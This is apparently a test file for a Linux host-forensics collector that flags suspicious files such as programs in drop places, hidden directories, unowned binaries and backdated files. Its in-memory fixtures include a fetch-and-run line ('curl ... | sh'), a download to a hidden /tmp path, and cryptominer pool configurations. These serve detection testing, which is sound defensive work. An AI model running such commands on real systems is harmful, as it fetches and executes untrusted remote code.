import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { test } from 'node:test'
import fc from 'fast-check'
import { type Fact, type FileFact, fact as schema } from '../../model/index.ts'
import { decodeBytes, type MemoryFile, memoryTarget } from '../../target/index.ts'
import { collectFacts } from '../collect.ts'
import type { Collector } from '../collector.ts'
import { files } from './files.ts'

const md5 = (text: string) => createHash('md5').update(text).digest('hex')
const elf = (text: string) => Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(60), Buffer.from(text)])

const host: Record<string, string | Buffer | MemoryFile> = {
  '/etc/passwd': 'root:x:0:0::/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\n',
  '/var/lib/dpkg/status': 'Package: tools\nStatus: install ok installed\nVersion: 1\nArchitecture: all\n',
  '/var/lib/dpkg/info/tools.list': '/usr/bin/tool\n/usr/lib/.build-id\n',
  '/var/lib/dpkg/info/tools.md5sums': `${md5('tool')}  usr/bin/tool\n`,
  '/bin': { link: 'usr/bin' },
  '/usr/bin/tool': { content: 'tool', mode: 0o755 },
  '/usr/bin/chosen': { link: '/etc/alternatives/chosen' },
  '/etc/alternatives/chosen': { link: '/usr/bin/tool' },
  '/usr/lib/.build-id/00/1': 'x',
  '/etc/hosts': '127.0.0.1 localhost\n',
  '/etc/app.conf': 'listen = 127.0.0.1\n',
  '/tmp/.X11-unix/X0': { type: 'socket' },
  '/tmp/notes.txt': 'the miner is at stratum+tcp://x:3333, see curl http://192.0.2.1/a.sh | sh\n',
  '/tmp/archive.tar.gz': Buffer.from([0x1f, 0x8b, 8, 0]),
  '/home/ann/.cargo/bin/thing': { content: elf('cargo'), mode: 0o755 },
  '/home/ann/.bashrc': 'alias ll="ls -l"\n',
  '/var/spool/mail/ann': 'From: x\n',
}

/** Says that something starts these paths, as cron.ts or systemd.ts would. */
function startsFrom(...targets: string[]): Collector {
  const fact: Fact = {
    kind: 'autostart',
    mechanism: 'cron-system',
    path: '/etc/crontab',
    command: '',
    enabled: true,
    targets,
    attributes: [],
    settings: [],
    oddities: [],
    links: [],
  }
  return { name: 'starts', collects: ['autostart'], os: ['linux'], stage: 'first', collect: () => [fact] }
}

async function seen(more: Record<string, string | Buffer | MemoryFile>, ...started: string[]): Promise<FileFact[]> {
  const target = memoryTarget({ files: { ...host, ...more }, now: '2026-02-01T00:00:00Z' })
  const { facts } = await collectFacts(target, [startsFrom(...started), files])
  assert.deepEqual(target.gaps, [])
  for (const fact of facts) schema.parse(fact)
  return facts.filter(fact => fact.kind === 'file')
}

async function paths(more: Record<string, string | Buffer | MemoryFile>, ...started: string[]): Promise<string[]> {
  return (await seen(more, ...started))
    .map(({ path, type, seenAs }) => `${path} ${type} ${seenAs.join('+')}`)
    .toSorted()
}

for (const [name, more, started, expected] of [
  ['an ordinary host gives nothing', {}, [], []],
  ['what is started, as it is', {}, ['/usr/bin/tool'], ['/usr/bin/tool file autostart']],
  [
    'what is started by another spelling',
    {},
    ['/bin/tool'],
    ['/bin/tool symlink autostart', '/usr/bin/tool file autostart'],
  ],
  ['what is started and is not there', {}, ['/usr/bin/gone'], []],
  ['a program in a drop place', { '/tmp/x': elf('x') }, [], ['/tmp/x file drop-place']],
  ['a script in shared memory', { '/dev/shm/a': '#!/bin/sh\n' }, [], ['/dev/shm/a file drop-place']],
  [
    'a hidden directory in a drop place',
    { '/var/tmp/.../a': elf('x') },
    [],
    ['/var/tmp/... directory hidden-directory', '/var/tmp/.../a file hidden-directory'],
  ],
  [
    'a directory of dots among system directories',
    { '/usr/share/.../a': elf('x'), '/usr/lib/.x/b': 'text' },
    [],
    [
      '/usr/lib/.x directory hidden-directory',
      '/usr/lib/.x/b file hidden-directory',
      '/usr/share/... directory hidden-directory',
      '/usr/share/.../a file hidden-directory',
    ],
  ],
  [
    'a program that no package owns',
    { '/usr/bin/systemd-x': { content: elf('x'), mode: 0o755 } },
    [],
    ['/usr/bin/systemd-x file system-directory'],
  ],
  [
    'a library of a package that was replaced later',
    {
      '/var/lib/dpkg/info/tools.list': '/usr/bin/tool\n/usr/lib/.build-id\n/usr/lib/x.so\n/usr/lib/y.so\n',
      '/var/lib/dpkg/info/tools.md5sums': `${md5('x')}  usr/lib/x.so\n${md5('y')}  usr/lib/y.so\n`,
      '/usr/lib/x.so': { content: elf('z'), changed: '2026-01-20T00:00:00Z' },
      '/usr/lib/y.so': { content: 'y', changed: '2026-01-20T00:00:00Z' },
    },
    [],
    ['/usr/lib/x.so file system-directory'],
  ],
  ['a program without permission to run', { '/etc/httpd2': elf('x') }, [], []],
  ['a script in /etc', { '/etc/upat.sh': '#!/bin/sh\necho\n' }, [], ['/etc/upat.sh file system-directory']],
  [
    'a library beside the others',
    { '/usr/lib/libudev.so.6': elf('x') },
    [],
    ['/usr/lib/libudev.so.6 file system-directory'],
  ],
  [
    'a shell with a space behind its name',
    { '/usr/sbin/nologin ': { content: elf('x'), mode: 0o755 } },
    [],
    ['/usr/sbin/nologin  file system-directory'],
  ],
  [
    'a program in the home of a hidden configuration',
    { '/home/ann/.configrc5/a/upd': { content: elf('x'), mode: 0o755 } },
    [],
    ['/home/ann/.configrc5/a/upd file hidden-home'],
  ],
  [
    'what a started script names, and what that names',
    { '/opt/a.sh': '#!/bin/sh\nsh /srv/b.sh\n', '/srv/b.sh': '/srv/c --config /etc/app.conf\n', '/srv/c': 'data' },
    ['/opt/a.sh'],
    [
      '/etc/app.conf file named-by-file',
      '/opt/a.sh file autostart',
      '/srv/b.sh file system-directory',
      '/srv/c file named-by-file',
    ],
  ],
  [
    'a configuration without a telling name',
    { '/tmp/.pid': '{"pools":[{"url":"192.0.2.9:443","nicehash":true,"keepalive":true}],"donate-level":0}' },
    [],
    ['/tmp/.pid file drop-place'],
  ],
] as const) {
  test(name, async () => assert.deepEqual(await paths(more, ...started), expected))
}

test('a file fact says whose it is, how old, and where its copies are', async () => {
  const program = {
    content: elf('same'),
    mode: 0o4755,
    uid: 1000,
    modified: '2020-01-01T00:00:00Z',
    changed: '2026-01-30T00:00:00Z',
    created: '2026-01-30T00:00:00Z',
  }
  const facts = await seen({ '/tmp/a': program, '/usr/bin/b': { ...program, attributes: ['immutable'] } }, '/usr/bin/b')
  const {
    inode: _,
    linkCount: __,
    sha256,
    md5: ___,
    ...rest
  } = facts.find(({ path }) => path === '/usr/bin/b') ?? assert.fail()
  assert.equal(sha256, createHash('sha256').update(elf('same')).digest('hex'))
  assert.deepEqual(rest, {
    kind: 'file',
    path: '/usr/bin/b',
    name: 'b',
    type: 'file',
    size: 68,
    uid: 1000,
    gid: 0,
    user: 'ann',
    mode: '04755',
    executable: true,
    setuid: true,
    modified: '2020-01-01T00:00:00.000Z',
    changed: '2026-01-30T00:00:00.000Z',
    created: '2026-01-30T00:00:00.000Z',
    ownership: 'unowned',
    attributes: ['immutable'],
    traits: ['elf', 'stripped-sections'],
    evidence: [],
    targets: [],
    endpoints: [],
    sameContent: ['/tmp/a'],
    seenAs: ['autostart'],
    ageDays: 2,
    backdated: true,
  })
})

test('what a script names below /proc and /sys is no file', async () => {
  const script = '#!/bin/sh\ndd if=/proc/self/mem skip=5\n/proc/self/exe -B\ncat /sys/kernel/notes\n/srv/app/own\n'
  const found = await paths(
    {
      '/opt/run.sh': { content: script, mode: 0o755 },
      '/srv/app/own': { content: elf('own'), mode: 0o755 },
      '/proc/self': { link: '7' },
      '/proc/7/mem': '',
      '/proc/7/exe': { link: '/opt/lamp/runtime/node' },
      '/opt/lamp/runtime/node': { content: elf('node'), mode: 0o755 },
      '/sys/kernel/notes': 'notes',
    },
    '/opt/run.sh',
  )
  assert.deepEqual(found, ['/opt/run.sh file autostart', '/srv/app/own file named-by-file'])
})

test('targets and endpoints of scripts and configurations', async () => {
  const script = '#!/bin/sh\ncd /opt/.x && ./run\ncurl http://192.0.2.7:8080/x -o /tmp/.y\n# /not/this\n'
  const config = '{"pools": [{"url": "pool.example:3333"}], "log-file": "/var/log/x.log"}'
  const facts = await seen({ '/opt/s.sh': script, '/opt/c.json': config }, '/opt/s.sh', '/opt/c.json')
  const said = facts.map(({ path, targets, endpoints }) => ({ path, targets, endpoints }))
  assert.deepEqual(said, [
    {
      path: '/opt/s.sh',
      targets: ['/opt/.x/run', '/tmp/.y'],
      endpoints: ['http://192.0.2.7:8080/x', '192.0.2.7:8080'],
    },
    { path: '/opt/c.json', targets: ['/var/log/x.log'], endpoints: ['pool.example:3333'] },
  ])
})

test('names of any bytes and links of any kind do not stop the walk', async () => {
  const name = fc
    .uint8Array({ minLength: 1, maxLength: 20 })
    .map(bytes => decodeBytes(bytes.map(byte => (byte === 0 || byte === 47 ? 46 : byte))))
  const usable = name.filter(one => one !== '.' && one !== '..')
  await fc.assert(
    fc.asyncProperty(
      fc.array(
        fc.tuple(usable, fc.uint8Array({ maxLength: 80 }), fc.constantFrom('/tmp', '/usr/bin', '/root', '/opt')),
        { maxLength: 6 },
      ),
      usable,
      async (entries, link) => {
        const more: Record<string, string | Buffer | MemoryFile> = {}
        for (const [one, content, directory] of entries)
          more[`${directory}/${one}`] = { content: Buffer.from(content), mode: 0o755 }
        more['/var/tmp/loop'] = { link: `/var/tmp/${link}` }
        const target = memoryTarget({ files: { ...host, ...more } })
        const { facts } = await collectFacts(target, [startsFrom(...Object.keys(more)), files])
        assert.deepEqual(target.gaps, [])
        for (const fact of facts) if (fact.kind === 'file') schema.parse(fact)
      },
    ),
    { numRuns: 100 },
  )
})
